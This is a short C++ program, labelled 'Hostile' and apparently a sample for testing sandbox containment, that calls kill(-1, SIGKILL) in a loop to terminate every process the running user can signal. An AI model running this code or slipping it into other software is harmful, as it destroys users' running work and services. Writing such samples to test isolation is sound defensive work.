// Hostile: kill(-1): whoever this user may signal.
#include <csignal>
int main() {
  for (int i = 0; i < 1000; ++i) ::kill(-1, SIGKILL);
  return 0;
}
